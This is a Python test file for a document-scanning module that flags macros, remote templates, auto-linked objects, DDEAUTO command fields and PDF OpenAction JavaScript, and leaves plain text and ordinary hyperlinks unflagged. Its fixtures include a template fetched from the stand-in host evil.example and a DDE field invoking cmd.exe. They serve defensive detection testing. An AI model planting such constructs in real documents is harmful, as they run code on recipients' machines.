"""What a document carries beside its words is noted."""

from __future__ import annotations

from parsers.documents.notes import MACROS, OUTSIDE, SCRIPTS, notes
from tests.documents.made import compound, rtf_of
from tests.documents.test_docx import NAMES, packed
from tests.forms.generate import pdf

WORDS = f"<w:document {NAMES}><w:body><w:p><w:r><w:t>Surname: Bos</w:t></w:r></w:p></w:body></w:document>"
RELATED = (
    '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
LINKED = RELATED.replace("attachedTemplate", "hyperlink")


def test_macros() -> None:
    assert notes(packed(WORDS, **{"word/vbaProject.bin": b"x"})) == (MACROS,)
    assert notes(compound({"WordDocument": b"x", "_VBA_PROJECT": b"x"})) == (MACROS,)


def test_a_template_elsewhere_but_not_a_mere_link() -> None:
    assert notes(packed(WORDS, **{"word/_rels/settings.xml.rels": RELATED.encode()})) == (OUTSIDE,)
    assert notes(packed(WORDS, **{"word/_rels/document.xml.rels": LINKED.encode()})) == ()
    assert notes(rtf_of(r"{\object\objautlink x}")) == (OUTSIDE,)


def test_commands() -> None:
    field = WORDS.replace("<w:p>", '<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k"</w:instrText></w:r>')
    assert notes(packed(field)) == (SCRIPTS,)
    assert notes(
        pdf([(50, 50, "x")]).replace(b"/Type /Catalog", b"/OpenAction << /S /JavaScript >> /Type /Catalog")
    ) == (SCRIPTS,)


def test_words_alone_are_not_worth_a_note() -> None:
    assert notes(packed(WORDS)) == notes(pdf([(50, 50, "Surname")])) == notes(b"Surname: Bos") == ()
